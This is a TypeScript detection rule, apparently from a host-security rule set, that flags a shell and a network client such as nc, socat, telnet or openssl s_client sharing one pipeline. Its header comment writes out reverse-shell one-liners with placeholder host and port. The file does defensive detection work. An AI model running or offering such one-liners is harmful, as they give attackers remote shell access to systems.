/**
 * proc.reverse-shell-pipeline: a shell and a network client in one pipeline (`mkfifo f; cat f |
 * sh -i 2>&1 | nc h p > f`, `telnet h p | sh | telnet h q`, openssl s_client variants), with or
 * without a fifo and with no dup2 at all. ATT&CK T1059.004, T1095. Severity critical.
 */
import { defineRule, execHit } from '../../rule.js';
import { commandsOf, isShell, pipelinesOf, shellScript, type Command } from '../../lib/command.js';

const CLIENTS = /^(nc|ncat|netcat|nc\.traditional|nc\.openbsd|telnet|socat|pwncat|cryptcat|sbd)$/;

function isClient(cmd: Command): boolean {
  return CLIENTS.test(cmd.name) || (cmd.name === 'openssl' && cmd.args.includes('s_client'));
}

/** A shell that reads commands (no `-c` script of its own). */
function isCommandShell(cmd: Command): boolean {
  return isShell(cmd.name) && shellScript(cmd.name, cmd.args) === undefined;
}

export const pipeline = defineRule({
  id: 'proc.reverse-shell-pipeline',
  category: 'reverse-shell',
  severity: 'critical',
  attack: ['T1059.004', 'T1095'],
  reason: 'A shell and a network client share one pipeline',
  kinds: ['process.exec'],
  check(event) {
    const commands = commandsOf(event.argv);
    const fifo = commands.some(
      (c) => c.name === 'mkfifo' || (c.name === 'mknod' && c.args.includes('p')),
    );
    for (const pipe of pipelinesOf(commands)) {
      const client = pipe.find(isClient);
      const shell = pipe.find(isCommandShell);
      if (client && shell) {
        const how = fifo ? 'fifo pipeline' : 'pipeline';
        return execHit(event, `${shell.name} in a ${how} with ${client.name}`, {
          client: client.name,
          shell: shell.name,
          fifo,
        });
      }
    }
    return null;
  },
});
